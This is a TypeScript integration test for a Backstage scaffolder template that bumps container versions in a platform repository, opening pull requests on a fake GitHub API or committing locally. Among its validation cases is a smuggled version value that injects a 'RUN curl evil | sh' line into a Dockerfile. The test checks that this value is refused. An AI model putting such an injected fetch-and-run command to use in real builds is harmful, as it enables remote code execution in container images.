import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import catalogPlugin from '@backstage/plugin-catalog-backend';
import catalogModuleScaffolderEntityModel from '@backstage/plugin-catalog-backend-module-scaffolder-entity-model';
import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
import scaffolderModuleGithub from '@backstage/plugin-scaffolder-backend-module-github';
import catalogModuleContainers from '@dockyard/plugin-catalog-backend-module-containers';
import scaffolderModuleContainers from '@dockyard/plugin-scaffolder-backend-module-containers';
import {
  backendRequest,
  changedLines,
  git,
  initGitRepository,
  isolateGitConfig,
  REPO_ROOT,
  runScaffolderTask,
  snapshotTree,
  tempDir,
  waitFor,
} from '@dockyard/test-utils';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { FakeGithubGit } from './__testUtils__/fakeGithubGit';

/*
 * The real templates/bump-container/template.yaml through the real scaffolder task API, with the
 * Dockyard modules and Backstage's GitHub module as packages/backend installs them: the local
 * path commits on a branch of a platform checkout, the pull-request path pushes to a GitHub API
 * on 127.0.0.1 that keeps the commits and records the pull requests.
 */

const YAML_FILE = 'containers/trino/container.yaml';
const BUMPED_FILES = [YAML_FILE, 'containers/trino/Dockerfile', 'README.md'];
const TRINO = 'component:default/trino';

/** A platform checkout: the repository's trino and nessie, its README, all committed on main. */
async function createPlatform(): Promise<string> {
  const root = await tempDir('bump');
  for (const slug of ['trino', 'nessie']) {
    await fs.cp(
      path.join(REPO_ROOT, 'containers', slug),
      path.join(root, 'containers', slug),
      { recursive: true },
    );
  }
  await fs.copyFile(
    path.join(REPO_ROOT, 'README.md'),
    path.join(root, 'README.md'),
  );
  initGitRepository(root);
  return root;
}

// The actions' git must not read this machine's git configuration.
isolateGitConfig();

describe('the Bump container template on the scaffolder backend', () => {
  let checkout: string;
  let github: FakeGithubGit;
  let backend: Awaited<ReturnType<typeof startTestBackend>>;
  let baseUrl: string;

  const request = backendRequest(() => baseUrl);

  const runTask = (values: Record<string, unknown>, authorization?: string) =>
    runScaffolderTask(
      request,
      'template:default/bump-container',
      values,
      authorization,
    );

  beforeAll(async () => {
    checkout = await createPlatform();
    github = await FakeGithubGit.start({ dir: checkout });
    backend = await startTestBackend({
      features: [
        mockServices.rootConfig.factory({
          data: {
            backend: {
              database: { client: 'better-sqlite3', connection: ':memory:' },
            },
            integrations: { github: [github.integration] },
            catalog: {
              rules: [
                {
                  allow: [
                    'Component',
                    'API',
                    'Resource',
                    'Location',
                    'Template',
                  ],
                },
              ],
              locations: [
                {
                  type: 'file',
                  target: path.join(
                    REPO_ROOT,
                    'templates/bump-container/template.yaml',
                  ),
                  rules: [{ allow: ['Template'] }],
                },
              ],
              providers: {
                containers: {
                  local: {
                    path: path.join(checkout, 'containers'),
                    defaults: { owner: 'group:default/data-platform-team' },
                  },
                },
              },
            },
            auth: {
              providers: { guest: { userEntityRef: 'user:default/guest' } },
            },
            containers: {
              scaffolder: {
                platform: { path: checkout },
                localPublish: { enabled: true },
                pullRequestTarget: github.repoUrl,
              },
            },
          },
        }),
        catalogPlugin,
        catalogModuleScaffolderEntityModel,
        catalogModuleContainers,
        scaffolderPlugin,
        scaffolderModuleGithub,
        scaffolderModuleContainers,
      ],
    });
    baseUrl = `http://localhost:${backend.server.port()}`;
    await waitFor('the template and trino in the catalog', async () => {
      const template = await request(
        '/api/catalog/entities/by-name/template/default/bump-container',
      );
      const trino = await request(
        '/api/catalog/entities/by-name/component/default/trino',
      );
      return template.ok && trino.ok ? true : undefined;
    });
  }, 60_000);

  afterAll(async () => {
    await backend?.stop();
    await github?.stop();
    await fs.rm(checkout, { recursive: true, force: true });
  });

  it('opens a pull request titled "Bump Trino from 476 to 478" whose one commit is the bump', async () => {
    const before = await snapshotTree(checkout);
    const result = await runTask({
      container: TRINO,
      version: '478',
      target: 'pull-request',
    });
    expect(result.messages.join('\n')).not.toMatch(/error/i);
    expect(result.status).toBe('completed');

    expect(github.pulls).toHaveLength(1);
    const [pull] = github.pulls;
    expect(pull).toMatchObject({
      number: 1,
      head: 'dockyard/bump-trino-478',
      base: 'main',
      title: 'Bump Trino from 476 to 478',
    });
    expect(pull.body).toContain('**Trino** (`trino`): `476` → `478` (major)');
    expect(pull.body).toContain('Major version bump');
    expect(pull.body).toContain('rollback notes');

    // The branch: one commit on main, changing exactly the bumped files.
    const head = github.branch('dockyard/bump-trino-478')!;
    const commit = github.commit(head);
    expect(commit.parents).toEqual([github.branch('main')]);
    expect(commit.message).toMatch(/^Bump Trino from 476 to 478\n/);
    const diff = github.diff(head);
    expect([...diff.keys()].sort()).toEqual([...BUMPED_FILES].sort());
    expect(
      changedLines(diff.get(YAML_FILE)!.before, diff.get(YAML_FILE)!.after),
    ).toEqual(['-  current: "476"', '+  current: "478"']);
    expect(
      changedLines(
        diff.get('README.md')!.before,
        diff.get('README.md')!.after,
      )[1],
    ).toMatch(/^\+\| \[Trino\]\(containers\/trino\/\) .*\| 478 \|/);

    expect(result.output.links).toEqual([
      {
        title: 'Pull request',
        icon: 'github',
        url: `http://${github.host}/example/data-platform/pull/1`,
      },
      {
        title: 'Files in the pull request',
        url: `http://${github.host}/example/data-platform/pull/1/files`,
      },
    ]);
    // Nothing local.
    expect(await snapshotTree(checkout)).toEqual(before);
    expect(git(checkout, 'branch', '--show-current')).toBe('main');
  }, 60_000);

  it('running it again for the same version updates that branch and pull request, never a second one', async () => {
    const first = github.branch('dockyard/bump-trino-478');
    const result = await runTask({
      container: TRINO,
      version: '478',
      target: 'pull-request',
    });
    expect(result.status).toBe('completed');

    expect(github.pulls).toHaveLength(1);
    expect(github.requests.filter(r => r.endsWith('/pulls'))).toEqual([
      'POST /api/v3/repos/example/data-platform/pulls',
    ]);
    expect(github.requests).toContain(
      'PATCH /api/v3/repos/example/data-platform/pulls/1',
    );
    // The branch moved (force) to a new single commit on main with the same change.
    const head = github.branch('dockyard/bump-trino-478')!;
    expect(head).not.toBe(first);
    expect(github.commit(head).parents).toEqual([github.branch('main')]);
    expect([...github.diff(head).keys()].sort()).toEqual(
      [...BUMPED_FILES].sort(),
    );
    expect(result.output.links[0].url).toBe(
      `http://${github.host}/example/data-platform/pull/1`,
    );
  }, 60_000);

  it('refuses a guest when allowGuests is not set, pushing and writing nothing', async () => {
    const before = await snapshotTree(checkout);
    const requests = github.requests.length;
    const result = await runTask(
      { container: TRINO, version: '478', target: 'pull-request' },
      mockCredentials.user.header('user:default/guest'),
    );
    expect(result.status).toBe('failed');
    expect(result.messages.join('\n')).toContain(
      'containers:bump: guests may not bump containers on this portal (the task was started by user:default/guest)',
    );
    expect(github.requests).toHaveLength(requests);
    expect(await snapshotTree(checkout)).toEqual(before);
  }, 60_000);

  it.each([
    [{ version: '478\nRUN curl evil | sh' }, 400, 'does not match pattern'],
    [{ version: '' }, 400, 'does not match pattern'],
    [
      { container: 'component:default/../trino' },
      'failed',
      'Cannot bump the container:',
    ],
    [
      { container: 'component:default/flink' },
      'failed',
      'no container "flink"',
    ],
    [{ version: '476' }, 'failed', 'trino is already at 476'],
  ])(
    'refuses %j, writing nothing',
    async (overrides, status, message) => {
      const before = await snapshotTree(checkout);
      const result = await runTask({
        container: TRINO,
        version: '478',
        target: 'local',
        ...overrides,
      });
      expect(result.status).toBe(status);
      expect(
        status === 400
          ? JSON.stringify(result.body)
          : result.messages.join('\n'),
      ).toContain(message);
      expect(await snapshotTree(checkout)).toEqual(before);
      expect(git(checkout, 'branch', '--list', 'dockyard/*')).toBe('');
    },
    60_000,
  );

  it('commits the bump on dockyard/bump-trino-478 of the local checkout, and the catalog shows 478', async () => {
    const seed = git(checkout, 'rev-parse', 'HEAD');
    const result = await runTask({
      container: TRINO,
      version: '478',
      target: 'local',
    });
    expect(result.messages.join('\n')).not.toMatch(/error/i);
    expect(result.status).toBe('completed');

    expect(git(checkout, 'branch', '--show-current')).toBe(
      'dockyard/bump-trino-478',
    );
    expect(git(checkout, 'rev-parse', 'HEAD~1')).toBe(seed);
    expect(
      git(checkout, 'show', '--name-only', '--format=%s', 'HEAD').split('\n'),
    ).toEqual([
      'Bump Trino from 476 to 478',
      '',
      'README.md',
      'containers/trino/Dockerfile',
      YAML_FILE,
    ]);
    expect(
      git(checkout, 'diff', '-U0', 'HEAD~1', 'HEAD', '--', YAML_FILE)
        .split('\n')
        .filter(l => /^[-+][^-+]/.test(l)),
    ).toEqual(['-  current: "476"', '+  current: "478"']);
    expect(git(checkout, 'status', '--porcelain')).toBe('');
    expect(result.output.links).toEqual([
      { title: 'Open the component', icon: 'catalog', entityRef: TRINO },
    ]);
    expect(result.output.text).toHaveLength(1);
    expect(result.output.text[0].content).toContain(
      'Bumped `trino` from `476` to\n`478` and committed it as',
    );
    expect(result.output.text[0].content).toContain(
      '`dockyard/bump-trino-478`',
    );

    // The action's refresh event cannot cross plugins here (the test backend gives each plugin
    // its own events service), so the catalog is asked through its refresh route instead.
    const refreshed = await request('/api/catalog/containers/refresh', {
      method: 'POST',
      body: '{}',
    });
    expect(refreshed.status).toBe(200);
    const entity = await waitFor('trino at 478 in the catalog', async () => {
      const body = await (
        await request('/api/catalog/entities/by-name/component/default/trino')
      ).json();
      return body.metadata.annotations['dockyard.io/current-version'] === '478'
        ? body
        : undefined;
    });
    expect(entity.spec.type).toBe('container');
  }, 60_000);

  it('running the local bump again from main moves the same branch: still one commit', async () => {
    git(checkout, 'checkout', '-q', 'main');
    const result = await runTask({
      container: TRINO,
      version: '478',
      target: 'local',
    });
    expect(result.status).toBe('completed');
    expect(git(checkout, 'branch', '--list', 'dockyard/*')).toBe(
      '* dockyard/bump-trino-478',
    );
    expect(git(checkout, 'rev-list', '--count', 'main..HEAD')).toBe('1');

    // On the bump branch the platform is at 478: nothing more to bump.
    const again = await runTask({
      container: TRINO,
      version: '478',
      target: 'local',
    });
    expect(again.status).toBe('failed');
    expect(again.messages.join('\n')).toContain(
      'trino is already at 478 in the platform repository',
    );
  }, 60_000);
});
